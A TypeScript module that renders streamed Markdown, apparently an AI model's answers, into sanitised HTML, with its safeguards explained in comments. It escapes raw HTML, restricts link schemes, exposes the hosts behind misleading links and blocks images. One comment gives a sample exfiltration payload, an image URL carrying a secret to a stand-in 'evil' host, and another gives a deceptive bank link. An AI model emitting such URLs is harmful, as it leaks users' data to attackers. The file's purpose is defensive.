import { Lexer, Marked, Parser, type Token, type Tokens } from 'marked';

/** Words that appear inside rendered text; they follow the page's language. */
export interface MarkdownWords {
  copyCode: string;
  blockedImage: string;
}

const escapes: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
export const escapeHtml = (text: string): string => text.replace(/[&<>"']/g, (mark) => escapes[mark] ?? mark);

/**
 * The address if a link may lead there, else undefined. Only absolute http(s) and mailto: a model has no business
 * naming addresses of this site, and every other scheme runs code or reads files.
 */
export function safeUrl(address: string): URL | undefined {
  if (!/^(https?:\/\/|mailto:)/i.test(address)) return undefined;
  try {
    return new URL(address);
  } catch {
    return undefined;
  }
}

/** A link that names its host where its text does not, so that `[your bank](https://evil.example)` is seen through. */
function link(url: URL, address: string, html: string, text: string): string {
  const anchor = `<a href="${escapeHtml(address)}" target="_blank" rel="noopener noreferrer">${html}</a>`;
  const host = url.protocol === 'mailto:' ? url.pathname : url.host;
  return text.includes(host) ? anchor : `${anchor}<span class="host"> (${escapeHtml(host)})</span>`;
}

function marked(words: MarkdownWords): Marked {
  return new Marked({
    gfm: true,
    breaks: false,
    renderer: {
      // Raw HTML is text. DOMPurify, behind this, is the second wall and not the first.
      html: ({ text }) => escapeHtml(text),
      link(token) {
        const html = this.parser.parseInline(token.tokens);
        const url = safeUrl(token.href);
        if (url) return link(url, token.href, html, token.text);
        return token.href && !token.text.includes(token.href) ? `${html} (${escapeHtml(token.href)})` : html;
      },
      // Loading a picture from an address that the model wrote would send data there: `![](https://evil/?q=SECRET)`.
      image({ href, text }) {
        const label = `${words.blockedImage}${text ? `: ${text}` : ''}`;
        const url = safeUrl(href);
        return `<span class="blocked-image">${escapeHtml(label)}${url ? ` ${link(url, href, escapeHtml(url.host), url.host)}` : ''}</span>`;
      },
      code({ text, lang }) {
        const language = (lang ?? '').trim().split(/\s+/)[0] ?? '';
        return (
          `<div class="code"><div class="code-head"><span>${escapeHtml(language)}</span>` +
          `<button type="button" class="copy-code">${escapeHtml(words.copyCode)}</button></div>` +
          `<pre tabindex="0"><code>${escapeHtml(text)}\n</code></pre></div>\n`
        );
      },
      heading({ tokens, depth }) {
        // The page's own heading is level 1; the reader's outline must not be taken over by an answer.
        const level = Math.min(depth + 2, 6);
        return `<h${level}>${this.parser.parseInline(tokens)}</h${level}>\n`;
      },
      table(token) {
        const cell = (name: 'th' | 'td', { tokens, align }: Tokens.TableCell) =>
          `<${name}${align ? ` class="${align}"` : ''}>${this.parser.parseInline(tokens)}</${name}>`;
        const head = token.header.map((column) => cell('th', column)).join('');
        const rows = token.rows.map((row) => `<tr>${row.map((column) => cell('td', column)).join('')}</tr>`).join('');
        return `<div class="table" tabindex="0"><table><thead><tr>${head}</tr></thead><tbody>${rows}</tbody></table></div>\n`;
      },
      checkbox: ({ checked }) => (checked ? '\u2611 ' : '\u2610 '),
    },
  });
}

/**
 * Turns a growing text into blocks of HTML. While the text grows, only its open end is parsed again; everything before
 * the last two blocks is frozen (two, because a lone `-` after a list first looks like a paragraph and then like one
 * more item). `finish` parses the whole once more, because a reference at the end may give meaning to a link before it.
 */
export class MarkdownStream {
  readonly #marked: Marked;
  #frozen: string[] = [];
  #frozenLength = 0;
  #seen = '';

  constructor(words: MarkdownWords) {
    this.#marked = marked(words);
  }

  /** The blocks of `text`, which mostly begins with the text given before; if it does not, all is parsed again. */
  update(text: string, finish = false): string[] {
    const source = text.replace(/\r\n?/g, '\n');
    if (finish || !source.startsWith(this.#seen)) {
      this.#frozen = [];
      this.#frozenLength = 0;
    }
    this.#seen = source;
    const tokens = this.#lex(source.slice(this.#frozenLength));
    const blocks = tokens.filter(({ type }) => type !== 'space' && type !== 'def');
    const open = blocks.at(-2);
    const html: string[] = [];
    let rawLength = 0;
    let closed = !finish && open !== undefined;
    for (const token of tokens) {
      if (token === open) closed = false;
      if (closed) rawLength += token.raw.length;
      if (token.type === 'space' || token.type === 'def') continue;
      const block = this.#render(token);
      if (closed) this.#frozen.push(block);
      else html.push(block);
    }
    this.#frozenLength += rawLength;
    return [...this.#frozen, ...html];
  }

  #lex(source: string): Token[] {
    return new Lexer(this.#marked.defaults).lex(source);
  }

  #render(token: Token): string {
    return Parser.parse([token], this.#marked.defaults);
  }
}
